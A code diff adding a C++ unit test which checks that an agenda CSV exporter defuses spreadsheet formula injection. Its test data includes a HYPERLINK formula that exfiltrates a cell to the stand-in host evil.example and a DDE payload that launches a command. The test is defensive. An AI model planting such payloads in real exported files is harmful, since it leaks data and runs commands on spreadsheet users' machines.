@@ -5,6 +5,7 @@
 #include <filesystem>
 
 #include "absl/strings/str_split.h"
+#include "absl/strings/strip.h"
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
 
@@ -65,6 +66,28 @@ TEST(AgendaTest, CsvHasOneQuotedRowPerInterview) {
   v1::Event quoted = PlannedEvent();
   quoted.mutable_booths(0)->set_label("MSP \"Les Tilleuls\", Lunéville");
   EXPECT_THAT(AgendaCsv(quoted), HasSubstr("\"MSP \"\"Les Tilleuls\"\", Lunéville\""));
+}
+
+TEST(AgendaTest, CsvCellsThatSpreadsheetsTakeForFormulasAreNeutralised) {
+  v1::Event event = PlannedEvent();
+  event.mutable_booths(0)->set_label("=HYPERLINK(\"http://evil.example/?\"&H2,\"Voir\")");
+  event.mutable_plan()->mutable_interviews(1)->set_candidate_id("@SUM(1+1)*cmd|' /C calc'!A0");
+  event.mutable_plan()->mutable_interviews(2)->set_offer_id("-2+3");
+  event.mutable_plan()->mutable_interviews(2)->set_score(-0.5);
+  const std::string csv = AgendaCsv(event);
+  EXPECT_THAT(csv, HasSubstr(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&H2,\"\"Voir\"\")\","));
+  EXPECT_THAT(csv, HasSubstr(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","));
+  EXPECT_THAT(csv, HasSubstr(",\"'-2+3\","));
+  EXPECT_THAT(csv, HasSubstr(",\"-0.500\"\r\n"));  // a score we format stays a number
+  // No cell, once unquoted, starts with a formula character.
+  for (absl::string_view line : absl::StrSplit(csv, "\r\n", absl::SkipEmpty())) {
+    for (absl::string_view cell : absl::StrSplit(line, "\",\"")) {
+      cell = absl::StripPrefix(cell, "\"");
+      if (cell == "-0.500\"") continue;
+      ASSERT_FALSE(cell.empty()) << line;
+      EXPECT_EQ(absl::string_view("=+-@\t\r").find(cell.front()), absl::string_view::npos) << line;
+    }
+  }
 }
 
 TEST(AgendaTest, CandidateCalendarHoldsTheirInterviewsInTimeOrder) {
